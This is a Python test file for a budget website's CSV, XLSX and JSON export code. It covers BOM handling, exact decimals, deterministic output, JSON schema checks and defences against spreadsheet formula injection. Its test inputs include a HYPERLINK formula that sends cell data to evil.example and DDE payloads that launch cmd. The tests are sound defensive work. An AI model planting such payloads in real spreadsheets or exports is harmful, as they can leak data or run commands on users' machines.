"""The open-data serialisers: exact decimals, BOM, formula injection, determinism, schema."""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from decimal import Decimal
from pathlib import Path

import jsonschema
import openpyxl
import pytest
from referencing import Registry, Resource

from budgetsite.export import build_downloads
from budgetsite.export.csv import BOM, neutralise, to_csv
from budgetsite.export.files import SCHEMA_FILES
from budgetsite.export.jsonapi import record_json
from budgetsite.export.schema import index_schema, record_schema
from budgetsite.export.tables import indicator_rows, project_rows
from budgetsite.export.xlsx import to_xlsx
from budgetsite.load import parse_record
from budgetsite.model import Record, schema_fields
from budgetsite.render.reference import documented_classes
from budgetsite.tables import Column, Table

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'


def read_csv(data: bytes) -> list[list[str]]:
    assert data.startswith(BOM.encode("utf-8"))
    return list(csv.reader(io.StringIO(data.decode("utf-8")[1:], newline="")))


def hostile_record(tmp_path: Path) -> Record:
    seed = Path(__file__).resolve().parents[1] / "data" / "2021" / "711001.yaml"
    text = seed.read_text(encoding="utf-8")
    text = text.replace("name: 破产、改制企业退休劳动模范荣誉津贴", f"name: '{HOSTILE}'", 1)
    text = text.replace("value: 取得全社会认可", "value: '+cmd|\" /C calc\"!A0'", 1)
    text = text.replace("basis: 工作活动部门职责", "basis: '@SUM(1+1)*cmd|\"/C calc\"!A0'", 1)
    text = text.replace("description: 核实本县劳动模范人数", "description: '-2+3'", 1)
    record, errors = parse_record(text.encode("utf-8"), "data/2021/711001.yaml", expect_year=2021, expect_code="711001")
    assert not errors, errors
    assert record is not None
    return record


# -- CSV ---------------------------------------------------------------------------------

def test_csv_has_bom_crlf_and_exact_decimals() -> None:
    table = Table("t", (Column("a", "名称"), Column("b", "金额", "amount"), Column("c", "数量", "count")),
                  (("甲", Decimal("5.00"), 3), ("乙", Decimal("0"), 0), ("丙", Decimal("-1.50"), 1), ("丁", None, 2)))
    data = to_csv(table)
    assert data[:3] == b"\xef\xbb\xbf"
    assert b"\r\n" in data and b"\n" not in data.replace(b"\r\n", b"")
    assert data.decode("utf-8") == "\ufeff名称,金额,数量\r\n甲,5.00,3\r\n乙,0,0\r\n丙,-1.50,1\r\n丁,,2\r\n"


def test_csv_neutralises_formulas_but_not_numbers() -> None:
    assert neutralise(HOSTILE) == "'" + HOSTILE
    for text in ("+1+2", "-2+3", "@SUM(A1)", "\t=1", "=1"):
        assert neutralise(text).startswith("'"), text
    for text in ("-5", "+3.5", "-12.50%", "=", "≥90 百分比", "普通文字", ""):
        assert neutralise(text) == text


def test_hostile_text_in_csv_is_quoted_and_prefixed(tmp_path: Path) -> None:
    record = hostile_record(tmp_path)
    rows = read_csv(to_csv(project_rows([record])))
    header, first = rows[0], rows[1]
    assert first[header.index("项目名称")] == "'" + HOSTILE
    indicator = read_csv(to_csv(indicator_rows([record])))
    cells = [c for row in indicator for c in row]
    assert "'-2+3" in cells and "'+cmd|\" /C calc\"!A0" in cells and "'@SUM(1+1)*cmd|\"/C calc\"!A0" in cells
    for row in rows + indicator:
        for cell in row:
            if cell == "=":  # the parsed comparator: a lone operator runs nothing
                continue
            assert not cell.startswith(("=", "+", "@")) and not re.match(r"-[^\d]", cell), cell
    # The raw bytes quote the cell that holds quotes and commas, so it stays one cell.
    assert '"\'=HYPERLINK(""http://evil.example/?x=""&A1,""点击"")"'.encode() in to_csv(project_rows([record]))


# -- XLSX --------------------------------------------------------------------------------

def test_xlsx_is_byte_for_byte_reproducible(archive) -> None:
    from budgetsite.export.tables import record_tables

    first = to_xlsx(record_tables(archive.records))
    second = to_xlsx(record_tables(archive.records))
    assert first == second
    with zipfile.ZipFile(io.BytesIO(first)) as z:
        assert {i.date_time for i in z.infolist()} == {(2000, 1, 1, 0, 0, 0)}
        core = z.read("docProps/core.xml").decode()
        assert "2000-01-01T00:00:00Z" in core and "modified" in core


def test_xlsx_numbers_are_numeric_with_the_records_decimal_places() -> None:
    table = Table("t", (Column("a", "金额", "amount"), Column("b", "名称")),
                  ((Decimal("5.00"), "x"), (Decimal("12.5"), "y"), (Decimal("0"), "z"), (Decimal("1234567890123456.78"), "big")))
    wb = openpyxl.load_workbook(io.BytesIO(to_xlsx([table])))
    ws = wb["t"]
    assert (ws["A2"].value, ws["A2"].number_format, ws["A2"].data_type) == (5, "0.00", "n")
    assert (ws["A3"].value, ws["A3"].number_format) == (12.5, "0.0")
    assert (ws["A4"].value, ws["A4"].number_format) == (0, "0")
    # More significant digits than a double holds: kept exact as text rather than rounded.
    assert (ws["A5"].value, ws["A5"].data_type) == ("1234567890123456.78", "s")


def test_xlsx_never_stores_a_formula(tmp_path: Path) -> None:
    from budgetsite.export.tables import record_tables

    record = hostile_record(tmp_path)
    data = to_xlsx(record_tables([record]))
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        sheets = [z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/")]
    assert sheets and not any("<f>" in s or "<f " in s for s in sheets)
    wb = openpyxl.load_workbook(io.BytesIO(data))
    names = [c.value for c in wb["项目"]["E"]]
    assert HOSTILE in names  # the exact text, not "'=..." and not a formula
    cell = next(c for c in wb["项目"]["E"] if c.value == HOSTILE)
    assert cell.data_type == "s" and cell.quotePrefix


# -- JSON and the schema -----------------------------------------------------------------

def registry() -> Registry:
    resources = [(f"https://budgetsite.invalid/{path}", Resource.from_contents(make())) for path, make in SCHEMA_FILES.items()]
    return Registry().with_resources(resources)


def validate(instance: object, schema: dict) -> None:
    jsonschema.Draft202012Validator.check_schema(schema)
    jsonschema.Draft202012Validator(schema, registry=registry(), format_checker=jsonschema.FormatChecker()).validate(instance)


def test_every_json_download_follows_the_published_schema(downloads) -> None:
    checked = 0
    for path, content in downloads.items():
        if not path.endswith(".json") or path.startswith("api/schema/") or path.endswith("datapackage.json"):
            continue  # data packages follow the Frictionless profile (tests/test_datapackage.py)
        data = json.loads(content)
        if path.endswith("index.json"):
            validate(data, index_schema())
        else:
            validate(data, record_schema())
        checked += 1
    assert checked >= 6  # each document's file, each year's index and the archive's
    assert json.loads(downloads["api/schema/record.schema.json"]) == record_schema()


def test_schema_rejects_what_the_records_never_hold(archive) -> None:
    data = record_json(archive.records[0])
    broken = json.loads(json.dumps(data))
    broken["projects"][0]["budget"]["total"] = 5.0  # a float, not the exact text
    with pytest.raises(jsonschema.ValidationError, match=r"'total': 5\.0") as info:
        validate(broken, record_schema())
    # A budget may be absent (null) or a Budget: the float fails the Budget branch at its total.
    assert list(info.value.absolute_path) == ["projects", 0, "budget"]
    assert [(list(e.path), e.message) for e in info.value.context if e.path] == [(["total"], "5.0 is not of type 'string'")]
    extra = json.loads(json.dumps(data))
    extra["unexpected"] = 1
    with pytest.raises(jsonschema.ValidationError, match=r"Additional properties are not allowed \('unexpected' was unexpected\)"):
        validate(extra, record_schema())


def test_schema_documents_every_field_with_its_chinese_label() -> None:
    schema = record_schema()
    for cls in documented_classes():
        props = schema["properties"] if cls is Record else schema["$defs"][cls.__name__]["properties"]
        for f in schema_fields(cls):
            assert props[f.name]["title"] == f.metadata["label"], f"{cls.__name__}.{f.name}"
            assert props[f.name]["description"] == f.metadata["doc"]


def test_json_keeps_verbatim_text_beside_parsed_values(archive) -> None:
    record = archive.get(2021, "711001")
    data = record_json(record)
    ind = data["projects"][0]["indicators"][0]
    assert ind["value"] == "≥90 百分比"
    assert ind["quantity"] == {"comparator": "≥", "number": "90", "unit": "百分比", "explicit_comparator": True}
    qualitative = [i for i in data["projects"][0]["indicators"] if i["value"] == "取得全社会认可"]
    assert qualitative and qualitative[0]["quantity"] is None
    assert data["projects"][0]["spending_plan"][-1] == {"period": "12月底", "value": "100.00%", "percent": "100.00"}
    assert data["source"]["file"] == "2021/711001.yaml" and data["source"]["sha256"] == record.source.sha256


def test_downloads_are_deterministic(archive) -> None:
    first = {d.path: d.content for d in build_downloads(archive)}
    second = {d.path: d.content for d in build_downloads(archive)}
    assert first == second
